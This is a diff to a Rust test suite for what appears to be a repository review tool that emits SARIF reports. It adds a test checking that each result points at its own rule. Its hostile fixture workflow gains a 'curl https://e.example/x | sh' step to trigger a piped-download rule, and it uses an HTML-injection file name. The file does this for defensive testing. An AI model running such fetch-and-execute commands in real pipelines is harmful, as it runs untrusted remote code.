@@ -72,7 +72,9 @@ fn hostile() -> Reviewed {
         source = source.with_file(".github/workflows/<img src=x>.yml", workflow(revision, names));
         source = source.with_file(".github/workflows/b.yml", workflow(revision, names));
         let ends = if revision == "main" { "" } else { "x: [\n" };
-        let broken = format!("{ends}{}", workflow("main", &["lost"]));
+        // Its second finding is of a rule that nothing else breaks.
+        let piped = "      - run: curl https://e.example/x | sh\n";
+        let broken = format!("{ends}{}{piped}", workflow("main", &["lost"]));
         source = source.with_file(".github/workflows/c.yml", broken);
         for (number, name) in names.iter().enumerate() {
             let path = format!("third_party/{}/LICENSE", name.replace(['/', '\0'], "_"));
@@ -355,6 +357,23 @@ fn sarif_is_valid_has_states_and_keeps_the_limits_of_github() {
             let length = rule[text]["text"].as_str().map_or(0, |text| text.chars().count());
             assert!((1..=1024).contains(&length), "{rule}");
         }
+    }
+}
+
+#[test]
+fn every_result_of_sarif_points_at_its_own_rule() {
+    let reviewed = hostile();
+    let review = Review::new(&reviewed.report).with_delta(&reviewed.delta);
+    let mut out = Vec::new();
+    // Without descriptions, the results alone say which rules there are.
+    render_review(&review, ReviewFormat::Sarif, &RenderOptions::default(), &mut out).unwrap();
+    let log: Value = serde_json::from_slice(&out).unwrap();
+    let run = &log["runs"][0];
+    let results = run["results"].as_array().unwrap();
+    assert!(results.iter().any(|result| result["ruleId"] == "piped-download"));
+    for result in results {
+        let at = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
+        assert_eq!(run["tool"]["driver"]["rules"][at]["id"], result["ruleId"]);
     }
 }
 
